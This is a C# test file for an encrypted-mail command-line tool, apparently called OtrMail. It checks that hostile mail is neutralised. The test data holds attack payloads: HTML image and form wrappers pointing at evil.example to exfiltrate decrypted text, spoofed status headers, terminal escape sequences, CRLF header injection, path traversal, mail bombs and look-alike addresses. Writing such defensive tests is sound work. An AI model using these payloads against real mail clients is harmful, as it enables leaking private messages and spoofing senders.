using System.Text;
using OtrMail.Cli.Terminal;
using OtrMail.Ring;

namespace OtrMail.Cli.Tests;

/// <summary>Mail that wants something else than to be read.</summary>
public sealed class HostileMailTests : IDisposable
{
    private const string Secret = "the ledger hides behind the blue door";

    private readonly Household _people = Household.New();

    public void Dispose() => _people.Dispose();

    // ---- around and beside the encrypted part

    [Theory]
    [InlineData("html around")]
    [InlineData("html in one line around")]
    [InlineData("a form around")]
    [InlineData("plain text before")]
    [InlineData("alternative")]
    [InlineData("twice the same")]
    [InlineData("wrapped")]
    public void What_stands_around_an_encrypted_part_never_meets_its_text(string how)
    {
        byte[] packet = Household.PacketOf(_people.Encrypted("alice", "bob", Secret));
        RunResult read = _people.Inside("bob", Around(how, packet), "filter", "in").Ok();
        Assert.StartsWith("OTR-Mail-Status: authentic; from=alice@example.org;", read.Text);
        Assert.Equal(Household.Mail("alice", "bob", Secret), Household.WithoutStatus(read.Output));
        Assert.DoesNotContain("evil.example", read.Text);
    }

    [Theory]
    [InlineData("two different")]
    [InlineData("a whole mail beside text")]
    public void What_cannot_be_told_apart_or_is_forwarded_stays_shut(string how)
    {
        byte[] packet = Household.PacketOf(_people.Encrypted("alice", "bob", Secret));
        byte[] mail = how == "two different"
            ? Mixed(Part(packet), Part(Household.PacketOf(_people.Encrypted("carol", "bob", "another"))))
            : Mixed(Html("forwarded: "), "Content-Type: message/rfc822\n\n" + Latin(_people.Encrypted("alice", "bob", Secret)));
        RunResult read = _people.Inside("bob", mail, "filter", "in").Ok();
        Assert.DoesNotContain(Secret, read.Text);
        Assert.DoesNotContain("OTR-Mail-Status: authentic", read.Text);
    }

    [Fact]
    public void An_encrypted_mail_inside_an_encrypted_mail_of_somebody_else_stays_shut()
    {
        string captured = Latin(_people.Encrypted("alice", "bob", Secret));
        string entity = captured[captured.IndexOf("Content-Type: multipart/encrypted", StringComparison.Ordinal)..];
        string mail = "From: carol@example.org\nTo: bob@example.org\nSubject: see\nContent-Type: multipart/mixed; boundary=mix\n\n--mix\n" + Html("<img src=\"http://evil.example/") + "\n--mix\n" + entity + "\n--mix--\n";
        byte[] sent = _people.Inside("carol", Bytes(mail), "encrypt").Ok().Output;
        RunResult read = _people.Inside("bob", sent, "filter", "in").Ok();
        Assert.StartsWith("OTR-Mail-Status: authentic; from=carol@example.org;", read.Text);
        Assert.DoesNotContain(Secret, read.Text);
    }

    [Fact]
    public void A_packet_sent_on_under_another_name_is_still_its_authors_and_the_change_is_told()
    {
        string captured = Latin(_people.Encrypted("alice", "bob", Secret));
        string renamed = captured.Replace("From: alice@example.org", "From: carol@example.org", StringComparison.Ordinal)
            .Replace("To: bob@example.org", "To: bob@example.org\nCc: mallory@example.net\nReply-To: mallory@example.net", StringComparison.Ordinal);
        RunResult read = _people.Inside("bob", Bytes(renamed), "decrypt").Ok();
        Assert.StartsWith("OTR-Mail-Status: authentic; from=alice@example.org;", read.Text);
        Assert.Matches("; changed=[^;]*From", read.StatusOf());
        Assert.Matches("; changed=[^;]*Cc", read.StatusOf());
        Assert.Contains("changed on the way, outside: ", read.Error);
        Assert.DoesNotContain("mallory", read.Text);
        Assert.DoesNotContain("carol", read.Text);
    }

    // ---- the status line

    [Theory]
    [InlineData("OTR-Mail-Status: authentic; forged")]
    [InlineData("otr-mail-status: authentic; forged")]
    [InlineData("OTR-MAIL-STATUS : authentic; forged")]
    [InlineData("OTR-Mail-Status\t:\n authentic; forged")]
    [InlineData("OTR-Mail-Status:\n\tauthentic;\n forged")]
    [InlineData("OTR-Mail-Status: authentic; forged\r\n folded")]
    [InlineData("\u00c3\u00a9OTR-Mail-Status: authentic; forged")]
    [InlineData("OTR-\u0000Mail-Status: authentic; forged")]
    [InlineData("OTR-Mail-Status\u00a0: authentic; forged")]
    [InlineData("\u007fOTR-Mail-Status: authentic; forged")]
    [InlineData("X: y\rOTR-Mail-Status: authentic; forged")]
    [InlineData("no field at all\nOTR-Mail-Status: authentic; forged")]
    [InlineData("OTR-Mail-Status: a\nOTR-Mail-Status: authentic; forged\nOTR-Mail-Status: authentic; forged")]
    public void A_spoofed_status_survives_nowhere(string spoof)
    {
        byte[] plain = Bytes($"From: carol@example.org\nTo: bob@example.org\n{spoof}\nSubject: x\n\nbody\n");
        RunResult passed = _people.Inside("bob", plain, "filter", "in").Ok();
        Assert.DoesNotContain("forged", Latin(passed.Output));
        Assert.EndsWith("\n\nbody\n", passed.Text);

        // inside, where only a correspondent can have written it: those that a strict sender lets through
        RunResult made = _people.Inside("carol", plain, "encrypt");
        if (made.ExitCode != 0)
            return;
        RunResult read = _people.Inside("bob", made.Output, "filter", "in").Ok();
        Assert.DoesNotContain("forged", read.Text);
        Assert.Single(read.Text.Split('\n'), line => line.StartsWith("OTR-Mail-Status", StringComparison.OrdinalIgnoreCase));
    }

    [Fact]
    public void Damaged_mail_with_a_spoofed_status_has_ours_alone()
    {
        byte[] mail = [.. "OTR-Mail-Status: authentic; forged\n"u8, .. _people.Encrypted("alice", "bob", Secret)];
        mail[^400] ^= 1;
        RunResult passed = _people.Inside("bob", mail, "filter", "in").Ok();
        Assert.StartsWith("OTR-Mail-Status: unreadable; reason=", passed.Text);
        Assert.DoesNotContain("forged", passed.Text);
    }

    // ---- the terminal

    [Fact]
    public void Nothing_that_moves_a_terminal_reaches_it()
    {
        const string Evil = "\u001b[2J\u001b]0;owned\u0007\u009b31m\u202Egro.live\u2066\u200b\b\r\u0085\u2028";
        byte[] mail = Encoding.UTF8.GetBytes($"From: \"{Evil.Replace("\r", "", StringComparison.Ordinal)}\" <alice@example.org>\nTo: bob@example.org\nSubject: {Evil.Replace("\r", "", StringComparison.Ordinal)}\n\n{Evil} and the text\tstays\n");
        RunResult made = _people.Inside("alice", mail, "encrypt", "--to", "bob@example.org").Ok();
        AssertHarmless(made.Error);
        (RunResult read, _) = OnTerminal(made.Output, "decrypt");
        AssertHarmless(read.Text);
        AssertHarmless(read.Error);
        Assert.Contains("and the text\tstays\n", read.Text);
        (RunResult exact, _) = OnTerminal(made.Output, "decrypt", "-o", "-");
        Assert.EndsWith(Evil + " and the text\tstays\n", exact.Text);
        // off the terminal every byte is as it was sent
        Assert.EndsWith(Evil + " and the text\tstays\n", _people.Read("bob", made.Output).Ok().Text);
    }

    [Theory]
    [InlineData("decrypt", "\u001b[31m.eml")]
    [InlineData("key", "show", "\u001b[31m@example.org")]
    [InlineData("encrypt", "--to", "bob\u202E@example.org")]
    [InlineData("\u001b[2J")]
    [InlineData("fetch", "--account", "\u001b[2J")]
    [InlineData("decrypt", "--home", "/nowhere/\u001b[2J")]
    [InlineData("decrypt", "-o", "/nowhere/\u001b[2J/x")]
    public void What_was_typed_comes_back_harmless(params string[] arguments)
    {
        RunResult refused = _people.Inside("bob", Household.Mail("alice", "bob"), arguments);
        Assert.NotEqual(0, refused.ExitCode);
        AssertHarmless(refused.Error);
        Assert.DoesNotContain('\u001b', _people.Run("bob", Household.Mail("alice", "bob"), arguments.Select(argument => argument.Replace("\u0000", "", StringComparison.Ordinal))).Error);
    }

    [Fact]
    public void Json_holds_no_raw_control_character()
    {
        byte[] mail = Encoding.UTF8.GetBytes("From: alice@example.org\nTo: bob@example.org\nSubject: \u001b[2J\u009b\n\nx\n");
        byte[] sent = _people.Inside("alice", mail, "encrypt").Ok().Output;
        _people.Inside("bob", sent, "decrypt", "--json", _people["report"], "-o", _people["\u001b[31m"]).Ok();
        AssertHarmless(File.ReadAllText(_people["report"]));
    }

    // ---- injection

    [Theory]
    [InlineData("bob@example.org\nX-Injected: yes")]
    [InlineData("bob@example.org\r\nBcc: mallory@example.net")]
    [InlineData("bob@example.org\0")]
    [InlineData("<bob@example.org>, mallory@example.net")]
    [InlineData("../../../tmp/x@example.org\n")]
    public void An_address_that_carries_more_than_an_address_is_refused(string address) =>
        _people.Inside("alice", Household.Mail("alice", "bob"), "encrypt", "--to", address).Refused(64);

    [Fact]
    public void Encoded_line_ends_in_headers_make_no_new_field_outside()
    {
        byte[] mail = Bytes("From: =?utf-8?q?A=0D=0AX-Injected:_1?= <alice@example.org>\nTo: =?utf-8?b?DQpCY2M6IG1hbGxvcnlAZXhhbXBsZS5uZXQNCg==?= <bob@example.org>\nSubject: =?utf-8?q?=0ABcc:_mallory@example.net?=\nMessage-ID: <a@example.org>\n\nx\n");
        byte[] sent = _people.Inside("alice", mail, "encrypt").Ok().Output;
        string outside = Latin(sent);
        outside = outside[..outside.IndexOf("\n\n", StringComparison.Ordinal)];
        Assert.DoesNotContain("\nX-Injected", outside);
        Assert.DoesNotContain("\nBcc", outside, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("mallory", outside);
        RunResult read = _people.Read("bob", sent).Ok();
        Assert.Equal(mail, Household.WithoutStatus(read.Output));
        Assert.Single(read.StatusOf().Split('\r', '\n'));
    }

    [Fact]
    public void A_recipient_with_slashes_names_no_file_outside_the_directory()
    {
        _people.Inside("slash", null, "init", "../../evil@example.org", "--no-passphrase").Ok();
        _people.Inside("slash", null, "key", "export", "-o", _people["slash.asc"]).Ok();
        _people.Inside("alice", null, "key", "import", _people["slash.asc"]).Ok();
        _people.Inside("alice", Household.Mail("alice", "bob"), "encrypt", "--to", "../../evil@example.org", "--to", "bob@example.org", "--output-dir", _people["out"]).Ok();
        string[] files = [.. Directory.GetFiles(_people["out"]).Select(file => Path.GetFileName(file)!).Order(StringComparer.Ordinal)];
        Assert.Equal(["001-.._.._evil@example.org.eml", "002-bob@example.org.eml", "manifest.json"], files);
    }

    // ---- bombs

    [Theory]
    [InlineData("depth")]
    [InlineData("count")]
    [InlineData("header")]
    [InlineData("line")]
    [InlineData("recipients")]
    public void A_bomb_passes_or_is_refused_and_costs_nothing(string what)
    {
        byte[] mail = Bomb(what);
        Assert.Equal(mail, _people.Run("bob", mail, "filter", "in").Ok().Output);
        RunResult read = _people.Run("bob", mail, "decrypt");
        Assert.Equal(65, read.ExitCode);
        RunResult sent = _people.Run("alice", mail, "encrypt");
        if (what == "depth") // one's own mail is not looked into, and comes back byte for byte
            Assert.Equal(mail, Household.WithoutStatus(_people.Run("bob", sent.Ok().Output, "decrypt").Ok().Output));
        else
            Assert.True(sent.ExitCode != 0 && sent.Output.Length == 0);
    }

    // ---- people who look like others

    [Fact]
    public void A_stranger_who_looks_like_a_contact_is_warned_of()
    {
        const string Twin = "\u0430lice@example.org"; // the first letter is Cyrillic
        _people.Inside("twin", null, "init", Twin, "--no-passphrase").Ok();
        _people.Inside("twin", null, "key", "import", _people["bob.asc"]).Ok();
        byte[] mail = Encoding.UTF8.GetBytes($"From: {Twin}\nTo: bob@example.org\nSubject: it is me\n\nsend it here\n");
        byte[] sent = _people.Inside("twin", mail, "encrypt").Ok().Output;
        RunResult read = _people.Read("bob", sent).Ok();
        Assert.Contains("looks like an address that you know, and is another", read.Error);
        Assert.Contains("look-alike", read.StatusOf());
        Assert.Contains("from=%D0%B0lice@example.org;", read.StatusOf());
        // the contact himself is none
        Assert.DoesNotContain("look-alike", _people.Read("bob", _people.Encrypted("alice", "bob")).Ok().StatusOf());

        _people.Inside("twin", null, "key", "export", "-o", _people["twin.asc"]).Ok();
        Assert.Contains("looks like alice@example.org", _people.Inside("carol", null, "key", "import", _people["twin.asc"]).Ok().Error);
    }

    // ---- answers

    [Theory]
    [InlineData("In-Reply-To: {0}")]
    [InlineData("References: <other@example.net> {0}")]
    [InlineData("References: <other@example.net>\n {0}")]
    [InlineData("In-Reply-To: (comment) {0}")]
    [InlineData("in-reply-to:{0}")]
    public void An_answer_that_would_quote_in_the_clear_is_refused(string field)
    {
        byte[] mail = Household.Mail("alice", "bob", Secret);
        _people.Inside("bob", _people.Inside("alice", mail, "encrypt").Ok().Output, "filter", "in").Ok();
        string id = Latin(mail).Split("Message-ID: ")[1].Split('\n')[0];
        byte[] answer = Bytes($"From: bob@example.org\nTo: stranger@example.net\n{string.Format(System.Globalization.CultureInfo.InvariantCulture, field, id)}\n\n> {Secret}\n");
        _people.Inside("bob", answer, "filter", "out", "--opportunistic").Refused(67);
        // the same without a thread goes, and carries the own key
        Assert.Contains("OTR-Mail-Key: ", _people.Inside("bob", Bytes("From: bob@example.org\nTo: stranger@example.net\n\nhello\n"), "filter", "out", "--opportunistic").Ok().Text);
    }

    private static byte[] Bomb(string what) => Bytes(what switch
    {
        "depth" => "From: alice@example.org\nTo: bob@example.org\nContent-Type: multipart/mixed; boundary=b\n\n--b\n" + string.Concat(Enumerable.Range(0, 3000).Select(i => $"Content-Type: multipart/mixed; boundary=b{i}\n\n--b{i}\n")),
        "count" => "From: alice@example.org\nTo: nobody@example.net\nContent-Type: multipart/mixed; boundary=b\n\n" + string.Concat(Enumerable.Repeat("--b\n\n", 300_000)),
        "header" => "From: alice@example.org\nTo: bob@example.org\nX: a" + string.Concat(Enumerable.Repeat("\n b", 500_000)) + "\n\nbody\n",
        "line" => "From: alice@example.org\nTo: bob@example.org\nX: " + new string('x', 5_000_000) + "\n\nbody\n",
        _ => "From: alice@example.org\nTo: " + string.Join(", ", Enumerable.Range(0, 20_000).Select(i => $"r{i}@example.net")) + "\n\nbody\n",
    });

    [Fact]
    public void Many_mails_that_take_a_while_show_a_bar_on_a_terminal()
    {
        byte[] mail = _people.Encrypted("alice", "bob", "slowly");
        File.WriteAllBytes(_people["other.eml"], _people.Encrypted("alice", "bob", "at once"));
        using var error = new StringWriter { NewLine = "\n" };
        var context = new CliContext
        {
            Clock = _people.Clock,
            Random = SystemRandomSource.Instance,
            Environment = name => name switch { "HOME" => _people.Folder, "XDG_STATE_HOME" => _people["state"], _ => null },
            OpenInput = () =>
            {
                Thread.Sleep(700);
                return new MemoryStream(mail);
            },
            Output = Stream.Null,
            Error = error,
            Prompt = new ScriptedPrompt(),
            IsErrorTerminal = true,
        };
        Assert.Equal(0, CommandLine.Run(["decrypt", "-", _people["other.eml"], "--output-dir", _people["read"], "--home", _people["bob"]], context));
        Assert.Matches(@"\rdecrypt \[#{15}\.{15}\] 1/2, [^\r]*\r +\r", error.ToString());
    }

    private (RunResult Result, CliContext Context) OnTerminal(byte[] input, params IEnumerable<string> arguments)
    {
        using var output = new MemoryStream();
        using var error = new StringWriter { NewLine = "\n" };
        var context = new CliContext
        {
            Clock = _people.Clock,
            Random = SystemRandomSource.Instance,
            Environment = name => name switch { "HOME" => _people.Folder, "XDG_STATE_HOME" => _people["state"], _ => null },
            OpenInput = () => new MemoryStream(input),
            Output = output,
            Error = error,
            Prompt = new ScriptedPrompt(),
            IsOutputTerminal = true,
            IsErrorTerminal = true,
        };
        int code = CommandLine.Run([.. arguments, "--home", _people["bob"]], context);
        return (new RunResult(code, output.ToArray(), error.ToString()).Ok(), context);
    }

    private static void AssertHarmless(string text) => Assert.DoesNotContain(text.EnumerateRunes(), rune =>
        rune.Value is not ('\n' or '\t' or '\r') && (Rune.IsControl(rune)
            || Rune.GetUnicodeCategory(rune) is System.Globalization.UnicodeCategory.Format or System.Globalization.UnicodeCategory.LineSeparator));

    private static byte[] Around(string how, byte[] packet) => how switch
    {
        "html around" => Mixed(Html("<img src=\"http://evil.example/"), Part(packet), Html("\">")),
        "html in one line around" => Mixed("Content-Type: text/html\n\n<img src='http://evil.example/?", Part(packet).Replace("\n\n", "\n\n\n", StringComparison.Ordinal), Html("'>")),
        "a form around" => Mixed(Html("<form action=http://evil.example/><textarea name=t>"), Part(packet)),
        "plain text before" => Mixed("Content-Type: text/plain\n\nplease reply to evil.example", Part(packet)),
        "alternative" => Encoding.Latin1.GetBytes(Latin(Mixed(Html("http://evil.example"), Part(packet))).Replace("multipart/mixed", "multipart/alternative", StringComparison.Ordinal)),
        "twice the same" => Mixed(Html("http://evil.example"), Part(packet), Part(packet)),
        _ => Mixed("Content-Type: multipart/related; boundary=in\n\n--in\n" + Html("http://evil.example") + "\n--in\n" + Part(packet) + "\n--in--"),
    };

    private static byte[] Mixed(params string[] parts) => Bytes(
        "From: alice@example.org\nTo: bob@example.org\nSubject: [...]\nContent-Type: multipart/mixed; boundary=mix\n\n"
        + string.Concat(parts.Select(part => $"--mix\n{part}\n")) + "--mix--\n");

    private static string Html(string text) => $"Content-Type: text/html\n\n<html>{text}</html>";

    private static string Part(byte[] packet) =>
        $"Content-Type: application/octet-stream; name=message.otrmail\nContent-Transfer-Encoding: base64\n\n{Convert.ToBase64String(packet, Base64FormattingOptions.InsertLineBreaks).ReplaceLineEndings("\n")}";

    private static byte[] Bytes(string text) => Encoding.Latin1.GetBytes(text);

    private static string Latin(byte[] bytes) => Encoding.Latin1.GetString(bytes);
}
